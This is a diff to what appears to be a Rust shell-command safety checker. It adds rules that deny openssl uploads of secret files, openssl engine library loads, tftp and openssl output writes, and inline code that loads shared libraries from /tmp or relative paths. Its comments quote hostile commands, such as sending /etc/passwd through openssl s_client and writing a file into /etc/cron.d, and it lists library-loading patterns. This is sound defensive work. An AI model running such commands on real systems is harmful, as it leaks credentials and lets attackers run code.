@@ -2703,6 +2703,16 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
             if c.args().any(|a| a == "s_client" || a == "s_server")
                 && c.stdin != Source::Inherited =>
         {
+            // `openssl s_client -connect host:443 < /etc/passwd`: a file sent as is.
+            if let Source::File(f) = &c.stdin
+                && upload_secret(&f.text)
+            {
+                j.deny(
+                    "net.upload-file",
+                    C_UPLOAD | Capabilities::FILE_READ,
+                    "sends a secret or the password database to another host",
+                );
+            }
             j.ask(
                 "net.upload-pipe",
                 C_UPLOAD,
@@ -2711,6 +2721,31 @@ fn command_rules(c: &SimpleCommand, name: &str, j: &mut Judged) {
         }
         "source" | "." => {}
         _ => {}
+    }
+    // `openssl enc -in x -out /etc/cron.d/x`: the output file is written.
+    if name == "openssl" {
+        for w in c.argv.windows(2) {
+            if w[0].text == "-out" {
+                write_target(&w[1].text, j);
+            }
+        }
+        // `openssl req -engine ./lib.so`: an engine given as a file is a library loaded.
+        if c.argv.windows(2).any(|w| {
+            w[0].text == "-engine" && (w[1].text.contains('/') || w[1].text.ends_with(".so"))
+        }) {
+            j.deny(
+                "gtfo.library-load",
+                C_SHELL,
+                "openssl loads a shared library given as an engine file",
+            );
+        }
+    }
+    // `tftp HOST -c get REMOTE LOCAL`: the local file is written.
+    if name == "tftp"
+        && let Some(i) = c.argv.iter().position(|w| w.text == "get")
+        && let [_, local] = c.argv.get(i + 1..).unwrap_or(&[])
+    {
+        write_target(&local.text, j);
     }
 }
 
@@ -5260,6 +5295,38 @@ fn code_spawns_shell(code: &str) -> bool {
 
 /// Inline interpreter code: reverse shells, download-and-run, secret reads, setuid.
 fn code_rules(code: &str, j: &mut Judged) {
+    // `ctypes.CDLL("/tmp/x.so")`, `cdll.LoadLibrary("./x.so")`, `DynaLoader::dl_load_file`,
+    // `FFI::cdef`/`ffi.load`: a shared library from a scratch or relative path loaded into the
+    // interpreter (its constructor runs at once).
+    let loads = [
+        "LoadLibrary(",
+        "CDLL(",
+        "dlopen(",
+        "dl_load_file(",
+        "ffi.load(",
+        "FFI::cdef(",
+        "System.load(",
+        "process.dlopen(",
+    ]
+    .iter()
+    .any(|f| code.contains(f));
+    if loads
+        && code.split(['"', '\'']).any(|lit| {
+            lit.ends_with(".so")
+                && (lit.starts_with("/tmp/")
+                    || lit.starts_with("/var/tmp/")
+                    || lit.starts_with("/dev/shm/")
+                    || lit.starts_with("./")
+                    || lit.starts_with("../"))
+                && !lit.contains(char::is_whitespace)
+        })
+    {
+        j.deny(
+            "gtfo.library-load",
+            C_SHELL,
+            "inline code loads a shared library from a scratch or relative path",
+        );
+    }
     let socket = [
         "socket",
         "Socket",
